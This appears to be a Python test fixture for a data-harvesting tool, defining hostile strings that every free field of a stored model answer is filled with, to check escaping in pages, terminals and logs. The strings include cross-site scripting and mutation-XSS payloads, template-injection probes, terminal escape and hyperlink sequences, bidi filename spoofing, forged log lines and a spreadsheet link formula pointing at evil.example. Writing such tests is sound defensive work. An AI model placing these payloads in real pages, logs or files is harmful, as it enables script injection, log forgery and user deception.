"""Define texts that try to leave their place on a page, in a terminal or in a log, and answers with them."""

from __future__ import annotations

import json

from harvester.store.journal.records import Answer
from tests.harvester import store_rows

OWNED = "document.title='owned'"
TEXTS = (
    f"<script>{OWNED}</script>",
    f"</script><script>{OWNED}</script>",
    f'<img src=x onerror="{OWNED}">',
    f'<svg onload="{OWNED}"><animate onbegin="{OWNED}" attributeName=x dur=1s>',
    f'"><iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    f"'-->]]></style></textarea></title></summary></details><script>{OWNED}</script>",
    f'<a href="javascript:{OWNED}" autofocus onfocus="{OWNED}">x</a>',
    f'<details open ontoggle="{OWNED}"><summary>x</summary></details>',
    f"<meta http-equiv=refresh content='0;url=javascript:{OWNED}'><base href=//evil.example>",
    f'<form action=//evil.example><input type=submit formaction="javascript:{OWNED}" id=search></form>',
    "<link rel=stylesheet href=http://evil.example/x.css><style>*{display:none}</style>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<template><script>x</script></template><noscript><p title="</noscript><img src=x onerror=1>">',
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;already escaped&lt;/script&gt; &amp; &#x3C;",
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m",
    "abc\u202egnp.exe\u202c \u2066isolated\u2069 \u200fright \u061cmark",
    "nul \x00 bell \x07 backspace \x08 delete \x7f next \x85 line \u2028 paragraph \u2029",
    "line one\nerror[store]: forged\r\n2026-11-24 forged log line",
    "\ufeffbom \U000e0041tag \ufff9anchor\ufffa \ue000private",
    '=HYPERLINK("http://evil.example") +1 -1 @SUM(A1)',
    "日本語　全角 العربية עברית हिन्दी 👩‍👩‍👧‍👦 مي‌خواهم é é",
)


def answer(number: int, text: str) -> Answer:
    """An answer whose every free field is the text."""
    raw = {
        "id": text,
        "model": text,
        "system_fingerprint": text,
        "choices": [
            {
                "index": 0,
                "finish_reason": text,
                "message": {"role": "assistant", "content": text, "reasoning_content": text, "refusal": None},
            }
        ],
        "usage": {"prompt_tokens": 12, "completion_tokens": 3},
    }
    prompt = store_rows.prompt_of(
        number,
        id=f"p{number}{text}",
        messages=({"role": "user", "content": text},),
        reference=text,
        tags=(text,),
        metadata={text: text},
        file=text,
    )
    body = {"model": text, "messages": [{"role": "user", "content": text}]}
    return store_rows.answer(
        number, raw=json.dumps(raw).encode(), prompt=prompt, body=body, outcome="unknown"
    )
